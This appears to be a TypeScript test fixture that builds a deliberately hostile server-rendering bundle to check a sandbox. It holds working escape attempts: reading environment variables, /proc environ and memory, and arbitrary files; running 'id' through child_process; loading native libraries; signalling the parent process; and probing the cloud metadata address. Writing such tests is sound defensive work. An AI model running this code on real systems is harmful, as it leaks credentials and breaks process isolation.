/** What an attack aims at. */
export interface Targets {
  /** The process that started the bundle's. */
  parent: number;
  /** A file that its account can read. */
  file: string;
  /** A server of this machine. */
  port: number;
}

/**
 * A server bundle that tries the known ways out of its process, one per call: the request's `attack` chooses it, or the number at
 * the end of its `url`. It renders what it got, or the error's message behind `refused: `. It uses whatever its engine offers,
 * `Deno` or Node.
 */
export const hostileBundle = (targets: Targets) => `
const targets = ${JSON.stringify(targets)};
const outside = () => require('util').inspect.constructor('return globalThis')();
const builtin = (name) => {
  const real = require('util').inspect.constructor('return process')();
  return real.getBuiltinModule ? real.getBuiltinModule(name) : undefined;
};
const host = () => import('node:process').then((module) => module.default, () => require('util').inspect.constructor('return process')());
const load = async (name) => {
  try { return await import('node:' + name); } catch {}
  return builtin(name) ?? outside().Deno;
};
const inWorker = async (code) => {
  const { Worker } = await load('worker_threads');
  return new Promise((resolve, reject) => {
    const worker = new Worker(
      "const { parentPort } = require('worker_threads');" +
        "(async () => {" + code + "})().then((got) => parentPort.postMessage(got ?? 'nothing'), (error) => parentPort.postMessage('refused: ' + error.message));",
      { eval: true, execArgv: [] },
    );
    worker.on('message', resolve);
    worker.on('error', reject);
    setTimeout(() => reject(new Error('no answer of the worker')), 1000);
  });
};
const connect = async (options) => {
  const net = await load('net');
  return new Promise((resolve, reject) => {
    const socket = net.connect(options);
    socket.on('connect', () => { socket.destroy(); resolve('connected'); });
    socket.on('error', reject);
    setTimeout(() => reject(new Error('no connection')), 1000);
  });
};
const read = async (path) => String((await load('fs')).readFileSync(path));

const { parent, file, port } = targets;
const attacks = {
  'the constructor of a host function: environment': async () => JSON.stringify(outside().process.env).replace('{"NODE_ENV":"production"}', ''),
  'the environment of the engine': async () => JSON.stringify((await host()).env).replace('{}', ''),
  'the environment of the engine, by name': async () => outside().Deno?.env.get('DATABASE_URL') ?? '',
  'the prototype of the request': async (request) => request.constructor.constructor('return process')().mainModule?.require('fs').readFileSync(file) ?? '',
  'a file': () => read(file),
  'a file, by Deno': async () => outside().Deno?.readTextFileSync(file) ?? '',
  'a file, as a module': async () => JSON.stringify((await import('file://' + file, { with: { type: 'json' } })).default),
  'a module of the network': async () => JSON.stringify(await import('http://127.0.0.1:' + port + '/x.js')),
  'the environment of the edge': () => read('/proc/' + parent + '/environ'),
  'its own environment': () => read('/proc/self/environ'),
  'the memory of the edge': () => read('/proc/' + parent + '/mem'),
  'a worker without limits: file': () => inWorker('return String(process.getBuiltinModule("fs").readFileSync(' + JSON.stringify(file) + '))'),
  'a worker without limits: environment': () => inWorker('return String(process.getBuiltinModule("fs").readFileSync("/proc/' + parent + '/environ"))'),
  'a worker without limits: program': () => inWorker('return String(process.getBuiltinModule("child_process").execSync("id"))'),
  'SIGUSR1 to the edge': async () => (await host()).kill(parent, 'SIGUSR1') ?? 'sent',
  'SIGUSR1 to the edge, by Deno': async () => outside().Deno?.kill(parent, 'SIGUSR1') ?? (outside().Deno ? 'sent' : ''),
  'process.binding': async () => {
    const { spawnSync } = (await host()).binding('spawn_sync');
    return spawnSync ? 'spawn' : '';
  },
  'process.binding, files': async () => {
    const { open } = (await host()).binding('fs');
    return open ? 'open' : '';
  },
  'a native addon': async () => (await host()).dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6') ?? '',
  'a native library': async () => outside().Deno?.dlopen('libc.so.6', { getpid: { parameters: [], result: 'i32' } }).symbols.getpid() ?? '',
  'wasm with WASI': async () => {
    const { WASI } = await load('wasi');
    return WASI ? new WASI({ version: 'preview1', preopens: { '/': '/' } }) && '' : '';
  },
  'a program': async () => String((await load('child_process')).execSync('id')),
  'a program, by Deno': async () => outside().Deno ? String(new (outside().Deno.Command)('/usr/bin/id').outputSync().stdout) : '',
  'a connection': () => connect({ host: '127.0.0.1', port }),
  'a connection to the metadata of a cloud': () => connect({ host: '169.254.169.254', port: 80 }),
  'a connection by Deno': async () => outside().Deno ? (await outside().Deno.connect({ port })) && 'connected' : '',
  'a name': async () => (await load('dns')).promises.lookup('localhost').then(JSON.stringify),
  'a server': async () => outside().Deno ? outside().Deno.listen({ port: 0 }) && 'listens' : '',
  'an inspector': async () => (await load('inspector')).open(0) ?? 'opened',
  'the name of the machine': async () => (await load('os')).hostname(),
  'a file to write': async () => (await load('fs')).writeFileSync(file + '.written', 'x') ?? 'written',
};

exports.render = async (request) => {
  const name = request.attack ?? Object.keys(attacks)[Number(/\\d+$/.exec(request.url))];
  const attempt = async () => String((await attacks[name](request)) || 'nothing');
  const html = await attempt().catch((error) => 'refused: ' + error.message);
  return { html: '<p>' + name + ' got ' + html + '</p>', head: {}, status: 200 };
};
`;

/** The attacks of `hostileBundle`. */
export const ATTACKS = [
  ...hostileBundle({ parent: 0, file: '', port: 0 }).matchAll(/^ {2}'([^']+)': /gm),
].map(([, name]) => name as string);
